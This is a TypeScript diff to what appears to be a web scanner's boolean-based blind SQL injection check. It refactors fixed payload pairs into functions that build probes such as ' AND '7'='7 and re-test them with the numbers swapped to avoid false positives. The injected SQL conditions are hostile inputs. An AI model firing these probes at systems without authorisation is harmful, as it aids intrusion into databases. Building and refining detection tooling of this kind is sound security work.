@@ -13,12 +13,14 @@ export const sql: Attack = {
   },
 };
 
-/** Pairs of which the first is always true and the second never. */
-function pairs(usual: string, unknown: string): readonly (readonly [string, string])[] {
+type Condition = (a: number, b: number) => string;
+
+/** True where both are the same number. */
+function conditions(usual: string, unknown: string): readonly Condition[] {
   return [
-    [`${usual}' AND '7'='7`, `${usual}' AND '7'='8`],
-    [`${unknown}' OR '7'='7`, `${unknown}' OR '7'='8`],
-    [`${usual} AND 7=7`, `${usual} AND 7=8`],
+    (a, b) => `${usual}' AND '${a}'='${b}`,
+    (a, b) => `${unknown}' OR '${a}'='${b}`,
+    (a, b) => `${usual} AND ${a}=${b}`,
   ];
 }
 
@@ -26,9 +28,9 @@ async function byConditions(aim: Aim): Promise<Proof | undefined> {
   const unknown = aim.word();
   const nothing = await aim.send(unknown);
   if (nothing === undefined) return undefined;
-  for (const [holds, never] of pairs(aim.usual, unknown)) {
+  for (const condition of conditions(aim.usual, unknown)) {
     // oxlint-disable-next-line no-await-in-loop -- the first that shows ends it
-    const pair = await bothTwice(aim, holds, never);
+    const pair = await bothTwice(aim, condition);
     // Where a text that means nothing is answered like the true one, the value is not looked at.
     if (pair === undefined || outlineOf(pair[0]) === outlineOf(nothing) || pair[0].reply.status >= 300) continue;
     return {
@@ -42,11 +44,14 @@ async function byConditions(aim: Aim): Promise<Proof | undefined> {
   return undefined;
 }
 
-/** Undefined unless they are answered unlike, and the same a second time. */
-async function bothTwice(aim: Aim, holds: string, never: string): Promise<readonly [Answered, Answered] | undefined> {
-  const first = await both(aim, holds, never);
+/**
+ * Undefined unless they are answered unlike, and so again with the numbers exchanged: who searches for words finds others then,
+ * who works conditions out does not.
+ */
+async function bothTwice(aim: Aim, condition: Condition): Promise<readonly [Answered, Answered] | undefined> {
+  const first = await both(aim, condition(7, 7), condition(7, 8));
   if (first === undefined) return undefined;
-  const again = await both(aim, holds, never);
+  const again = await both(aim, condition(8, 8), condition(8, 7));
   const isSame = again?.every((answer, i) => outlineOf(answer) === outlineOf(first[i] as Answered)) ?? false;
   return isSame ? first : undefined;
 }
